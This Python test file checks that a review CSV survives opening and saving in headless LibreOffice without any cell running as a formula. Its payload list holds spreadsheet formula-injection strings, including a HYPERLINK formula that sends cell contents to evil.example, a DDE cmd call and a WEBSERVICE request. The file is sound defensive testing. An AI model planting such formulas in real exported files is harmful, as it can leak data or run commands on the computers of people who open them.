"""A review CSV opened and saved by a real LibreOffice comes back as it went out."""

import csv
import io
import shutil
import subprocess

import pytest

from ascn_nlp.review.cells import shield, unshield
from ascn_nlp.review.columns import COLUMNS, row_check
from ascn_nlp.review.decisions import parse
from ascn_nlp.review.delimited import read_csv, to_csv
from ascn_nlp.review.rows import Row

pytestmark = [pytest.mark.slow, pytest.mark.timeout(300)]

OFFICE = shutil.which("soffice") or shutil.which("libreoffice")
# separator, quote, character set 76 (UTF-8), first line, no column formats, any language, quoted fields are not text,
# special numbers are detected, and so on: what a person gets who opens the file and presses Enter.
FILTER = "44,34,76,1,,0,false,true,false,false,false"
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "'=1+1",
    "''=1+1",
    '=WEBSERVICE("http://evil.example")',
    "＝1+1",
    "-2.5",
    "+62 21 555",
]
TEXTS = [
    *PAYLOADS,
    'Two lines,\nwith “quotes”, a "straight" one; and a semicolon',
    "00123",
    "1/2",
    "2021-03-14",
    "TRUE",
    "1e10",
    "ผู้พักอาศัย · Đà Nẵng · ខ្មែរ",
    "'single quoted'",
    "trailing blank ",
]
CHANGED = {ord("\t"): None, ord("\r"): "\n"}


def rows():
    for number, text in enumerate(TEXTS):
        ids = {"passage_id": f"p{number:016x}", "document_id": "d0123456789abcdef"}
        row = dict.fromkeys(COLUMNS, "")
        row |= ids | {"concern": "surveillance", "quote": text, "note": text, "decision": "accept", "reviewer": "Ana"}
        row["row_check"] = row_check(ids["passage_id"], ids["document_id"], "surveillance")
        yield row


@pytest.fixture(scope="module")
def saved(tmp_path_factory):
    """The bytes of a review file that LibreOffice opened, saved as a spreadsheet, opened again and saved as CSV."""
    if OFFICE is None:
        pytest.skip("LibreOffice is not installed: apt-get install libreoffice-calc")
    folder = tmp_path_factory.mktemp("office")
    (folder / "review.csv").write_text("".join(to_csv(COLUMNS, map(Row, rows()))), encoding="utf-8", newline="")
    convert(folder, "review.csv", "ods", "--infilter=CSV:" + FILTER)
    (folder / "review.csv").unlink()
    convert(folder, "review.ods", f"csv:Text - txt - csv (StarCalc):{FILTER}")
    return (folder / "review.csv").read_bytes()


def convert(folder, name, target, *options):
    profile = f"-env:UserInstallation={(folder / 'profile').as_uri()}"
    command = [OFFICE, profile, "--headless", *options, "--convert-to", target, "--outdir", str(folder), name]
    subprocess.run(command, cwd=folder, check=True, capture_output=True, timeout=240)


def test_the_columns_are_those_that_were_exported(saved):
    header = next(csv.reader(io.StringIO(saved.decode("utf-8-sig"))))
    assert tuple(header) == COLUMNS


def test_no_cell_ran_as_a_formula_and_every_text_came_back(saved):
    found = list(csv.DictReader(io.StringIO(saved.decode("utf-8-sig"), newline="")))
    expected = [unshield(shield(text)) for text in TEXTS]
    got = [unshield(row["quote"]) for row in found]
    for text, back in zip(expected, got, strict=True):
        # A spreadsheet writes numbers and dates its own way and drops tabs, and makes returns new lines; words stay.
        assert back == text.translate(CHANGED) or text in ("00123", "1/2", "1e10", "TRUE", "2021-03-14"), text


def test_import_takes_every_decision_with_its_note(saved):
    parsed = parse(read_csv(saved), ["surveillance"])
    assert not parsed.refused
    assert [one.passage_id for one in parsed.decisions] == [f"p{n:016x}" for n in range(len(TEXTS))]
    notes = {one.passage_id: one.note for one in parsed.decisions}
    for number, text in enumerate(PAYLOADS):
        assert notes[f"p{number:016x}"].strip() == text.strip()
